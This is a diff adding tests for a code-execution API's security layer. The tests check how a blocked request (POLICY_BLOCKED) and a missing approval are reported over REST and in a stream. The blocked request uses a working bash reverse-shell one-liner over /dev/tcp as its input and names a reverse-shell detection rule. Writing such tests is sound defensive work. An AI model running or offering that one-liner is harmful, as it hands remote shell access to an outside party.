@@ -196,3 +196,25 @@ describe("text a client or analysed code chose, printed on the admin's terminal"
     for (const raw of ["\u001b", "\u0007"]) expect(analysed.stdout).not.toContain(raw);
   });
 });
+
+describe("a refusal's data on the wire", () => {
+  it("POLICY_BLOCKED over REST and in a stream names findings as the rest of the API does (rule_id, end_line) and the execution_id", async () => {
+    const code = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
+    const blocked = expectError(await api("/execute", { json: { language: "bash", code } }), 403, "POLICY_BLOCKED");
+    const data = blocked.data as { findings: Record<string, unknown>[]; execution_id?: string; executionId?: string };
+    expect(data.findings[0]).toMatchObject({ rule_id: "sh.reverse-shell.dev-tcp-shell", category: "reverse-shell", line: 1, end_line: 1, column: 1 });
+    expect(Object.keys(data.findings[0] ?? {}).sort()).toEqual(["category", "column", "end_line", "line", "message", "recommendation", "rule_id", "severity"]);
+    expect(data.execution_id).toMatch(/^[0-9a-f-]{36}$/);
+    expect(data.executionId).toBeUndefined();
+    const analysed = await api<{ findings: Record<string, unknown>[] }>("/security/analyze", { json: { language: "bash", code } });
+    expect(Object.keys(data.findings[0] ?? {}).sort()).toEqual(Object.keys(analysed.body.findings[0] ?? {}).sort());
+    const streamed = await api<string>("/execute?stream=1", { json: { language: "bash", code } });
+    expect(streamed.body).toMatch(/"rule_id":"sh\.reverse-shell\.dev-tcp-shell"/);
+    expect(streamed.body).not.toMatch(/ruleId|executionId/);
+  });
+
+  it("APPROVAL_NOT_FOUND names the approval_id", async () => {
+    const missing = expectError(await api("/approvals/nope", { json: { approve: true } }), 404, "APPROVAL_NOT_FOUND");
+    expect(missing.data).toMatchObject({ approval_id: "nope" });
+  });
+});
